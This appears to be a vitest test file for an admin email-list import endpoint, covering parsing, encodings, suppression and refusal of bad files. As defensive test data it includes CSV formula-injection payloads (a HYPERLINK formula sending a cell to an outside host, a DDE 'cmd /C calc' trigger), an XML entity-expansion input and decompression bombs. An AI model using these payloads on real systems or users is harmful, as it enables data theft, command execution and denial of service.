import { expect, test } from "vitest";
import { emailSuppressions } from "#platform/db/schema/email.ts";
import { addressHash } from "#platform/mail-transport/address-hash.ts";
import { testApi } from "#test/api.ts";
import { createAdmin, type TestAccount } from "#test/factories.ts";
import { sheetOf, workbookOf, zipOf } from "#test/workbook.ts";
import type { ImportAnswer } from "../../../contract/email-sends.ts";
import { IMPORT_PROBLEMS } from "../../../domain/composition.ts";

const api = testApi();
let admin: TestAccount | undefined;

async function send(content: string | Buffer, name: string): Promise<Response> {
  admin ??= await createAdmin(api());
  const body = new FormData();
  body.set("file", new File([typeof content === "string" ? content : new Uint8Array(content)], name));
  return api().call("POST", "/api/admin/email-sends/import", { as: admin, body });
}
async function read(content: string | Buffer, name = "list.csv"): Promise<ImportAnswer> {
  const response = await send(content, name);
  expect(response.status).toBe(200);
  return response.json();
}
async function refusal(content: string | Buffer, name = "list.xlsx"): Promise<[number, string]> {
  const response = await send(content, name);
  const { message } = (await response.json()) as { message: string };
  return [response.status, message];
}
const MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const sheet = (cells: string) => `<worksheet ${MAIN}><sheetData><row>${cells}</row></sheetData></worksheet>`;

test("a text file yields each address once and lists the dropped entries", async () => {
  const text = "Name,Email\r\nNia,NIA@example.com\nKofi;kofi@example.com\tnia@example.com\nnobody@nowhere\n";
  expect(await read(text)).toEqual({
    emails: ["nia@example.com", "kofi@example.com"],
    count: 2,
    invalid: 1,
    duplicates: 1,
    suppressed: 0,
    dropped: [
      { entry: "nia@example.com", why: "duplicate" },
      { entry: "nobody@nowhere", why: "invalid" },
    ],
  });
});

test("a workbook import reads all sheets, shared and inline strings, and formula results", async () => {
  const book = workbookOf([
    [
      ["Email", "Name"],
      ["nia@example.com", "Nia & Co"],
      ["kofi@example.com; ama@example.com", ""],
    ],
    [["nia@example.com"], ["late@example.com"]],
  ]);
  expect(await read(book, "list.xlsx")).toMatchObject({
    emails: ["nia@example.com", "kofi@example.com", "ama@example.com", "late@example.com"],
    duplicates: 1,
  });
  const own = sheetOf(
    sheet(
      `<c t="inlineStr"><is><r><t>own@</t></r><r><t>example.com</t></r></is></c><c t="str"><f>A1&amp;"@x"</f><v>made@example.com</v></c><c><v>42</v></c>`,
    ),
  );
  expect((await read(own, "list.xlsx")).emails).toEqual(["own@example.com", "made@example.com"]);
});

test("the file type is detected by content, not by file name", async () => {
  expect((await read(workbookOf([[["nia@example.com"]]]), "list.txt")).count).toBe(1);
  expect((await read("nia@example.com", "list.xlsx")).count).toBe(1);
});

test("the import reads text in UTF-16, Latin-1 and UTF-8 with a byte order mark", async () => {
  const wide = Buffer.concat([
    Buffer.from([0xff, 0xfe]),
    Buffer.from("Email\tName\r\nnia@example.com\tNi\u00e1", "utf16le"),
  ]);
  expect((await read(wide)).emails).toEqual(["nia@example.com"]);
  expect((await read("\uFEFFnia@example.com")).emails).toEqual(["nia@example.com"]);
  expect((await read(Buffer.from("Ren\xe9;rene@example.com", "latin1"))).emails).toEqual(["rene@example.com"]);
});

const PAGE =
  "<html><head><style>@page { margin: 1cm }</style></head><body><table><tr><td>Amina</td><td>ADDRESS</td></tr>";
const TABLE_OF_XML = `<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table><Row><Cell><Data>ADDRESS</Data></Cell></Row></Table></Worksheet></Workbook>`;

test.each<[string, string | Buffer]>([
  ["a page that calls itself a workbook", PAGE.replace("ADDRESS", "amina@example.com")],
  ["a page in UTF-16", Buffer.from(`\uFEFF${PAGE.replace("ADDRESS", "amina@example.com")}`, "utf16le")],
  ["a page that writes the sign as a number", PAGE.replace("ADDRESS", "amina&#64;example.com")],
  ["a page with a mail link", PAGE.replace("ADDRESS", '<a href="mailto:amina@example.com?subject=Hi">Write</a>')],
  [
    "a page with a link of that text",
    PAGE.replace("ADDRESS", '<a href="mailto:amina@example.com">amina@<b>example.com</b></a>'),
  ],
  ["a page that is not well formed", `<table><tr><td>a & b<td>amina@example.com<br></tr></font>`],
  ["an XML spreadsheet", TABLE_OF_XML.replace("ADDRESS", "amina@example.com")],
  ["tabs under the name of a workbook", "Name\tEmail\nAmina\tamina@example.com"],
  ["a link table of an old program", 'ID;PWXL;N;E\nC;Y1;X1;K"amina@example.com"\nE'],
  ["a workbook with escapes of the format", workbookOf([[["amina@example.com_x000D_"]]])],
])("the import reads %s", async (_name, file) => {
  expect(await read(file, "list.xls")).toMatchObject({ emails: ["amina@example.com"], dropped: [] });
});

test("dropped entries are listed when no address is left", async () => {
  await suppress("silent@example.com");
  const dropped = async (file: string) =>
    ((await (await send(file, "list.csv")).json()) as { dropped?: unknown }).dropped;
  expect(await dropped("nobody@nowhere; Amina <amina@>")).toEqual([
    { entry: "nobody@nowhere", why: "invalid" },
    { entry: "Amina <amina@>", why: "invalid" },
  ]);
  expect(await dropped("silent@example.com, x@y")).toEqual([
    { entry: "x@y", why: "invalid" },
    { entry: "silent@example.com", why: "suppressed" },
  ]);
  expect(await dropped("names only")).toBeUndefined();
});

async function suppress(...emails: string[]): Promise<void> {
  const rows = emails.map((email) => ({ addressHash: addressHash(email), reason: "bounced" as const }));
  await api()
    .db.insert(emailSuppressions)
    .values(rows.map((row) => ({ ...row, createdAt: api().clock() })));
}

test("suppressed addresses are dropped and counted", async () => {
  await suppress("gone@example.com");
  expect(await read("gone@example.com, here@example.com")).toMatchObject({
    emails: ["here@example.com"],
    suppressed: 1,
  });
});

test("a file is refused with the reason when all its valid addresses are suppressed", async () => {
  await suppress("left@example.com", "bounced@example.com");
  const file = "left@example.com\nbounced@example.com\nnobody@nowhere";
  expect(await refusal(file)).toEqual([
    422,
    "None of these addresses was added: they are on the list of addresses that receive no email from us.",
  ]);
});

test("formulas are not read as addresses", async () => {
  const text = "=HYPERLINK(\"http://x.example/\"&A1),@SUM(1+1)*cmd|'/C calc'!A0,=1+nia@example.com,ok@example.com";
  expect(await read(text)).toMatchObject({ emails: ["ok@example.com"] });
});

const REFUSED: [string, () => string | Buffer, string][] = [
  ["nothing", () => "", "No valid emails found in the file"],
  ["names only", () => "Nia\nKofi", "No valid emails found in the file"],
  ["an empty workbook", () => workbookOf([[]]), "No valid emails found in the file"],
  ["a picture", () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0, 0]), IMPORT_PROBLEMS.type],
  [
    "another archive",
    () => zipOf([{ name: "word/document.xml", content: "<a>nia@example.com</a>" }]),
    IMPORT_PROBLEMS.type,
  ],
  ["half a workbook", () => workbookOf([[["nia@example.com"]]]).subarray(0, 400), IMPORT_PROBLEMS.broken],
  ["an archive of nothing", () => Buffer.from("PK\x03\x04 and then nothing"), IMPORT_PROBLEMS.broken],
  ["broken XML", () => sheetOf("<worksheet><sheetData><row>"), IMPORT_PROBLEMS.broken],
  [
    "an old workbook",
    () => Buffer.from("d0cf11e0a1b11ae100", "hex"),
    "Please save this workbook as .xlsx: the older .xls cannot be read.",
  ],
  [
    "a workbook with a password",
    () => Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.from("EncryptedPackage", "utf16le")]),
    IMPORT_PROBLEMS.locked,
  ],
  [
    "a locked archive",
    () => zipOf([{ name: "xl/worksheets/sheet1.xml", content: "x", flags: 1 }]),
    IMPORT_PROBLEMS.locked,
  ],
  [
    "entities that multiply",
    () =>
      sheetOf(
        `<!DOCTYPE w [<!ENTITY a "nia@example.com"><!ENTITY b "&a;&a;&a;">]><worksheet><c t="str"><v>&b;</v></c></worksheet>`,
      ),
    IMPORT_PROBLEMS.broken,
  ],
  ["a bomb", () => sheetOf(`<worksheet>${" ".repeat(70_000_000)}</worksheet>`), IMPORT_PROBLEMS.unpacksTooLarge],
  [
    "a bomb that lies",
    () => zipOf([{ name: "xl/worksheets/sheet1.xml", content: " ".repeat(70_000_000), claims: 1000 }]),
    IMPORT_PROBLEMS.broken,
  ],
  [
    "a long text in many cells",
    () =>
      sheetOf(sheet('<c t="s"><v>0</v></c>'.repeat(3000)), [
        { name: "xl/sharedStrings.xml", content: `<sst><si><t>${"a@".repeat(5000)}</t></si></sst>` },
      ]),
    IMPORT_PROBLEMS.unpacksTooLarge,
  ],
  [
    "too many cells",
    () => sheetOf(sheet("<c/>".repeat(500_001))),
    "This workbook has too many cells. Please save only the column of addresses.",
  ],
  [
    "a hundred thousand addresses",
    () => Array.from({ length: 100_000 }, (_, n) => `person${n}@example.com`).join("\n"),
    "This file has more than 10,000 addresses. Please split it.",
  ],
];

test.each(REFUSED)("the import refuses %s with an explanation", async (_name, content, sentence) => {
  expect(await refusal(content())).toEqual([422, sentence]);
});

test("a file of more than 5 MB is refused", async () => {
  expect(await refusal(Buffer.alloc(5 * 1024 * 1024 + 1, 32))).toEqual([413, IMPORT_PROBLEMS.tooLarge]);
  expect((await refusal(Buffer.alloc(6 * 1024 * 1024, 32)))[0]).toBe(413);
});

test("a form without a file is refused", async () => {
  admin ??= await createAdmin(api());
  const response = await api().call("POST", "/api/admin/email-sends/import", { as: admin, body: new FormData() });
  expect([response.status, ((await response.json()) as { message: string }).message]).toEqual([
    422,
    IMPORT_PROBLEMS.file,
  ]);
});
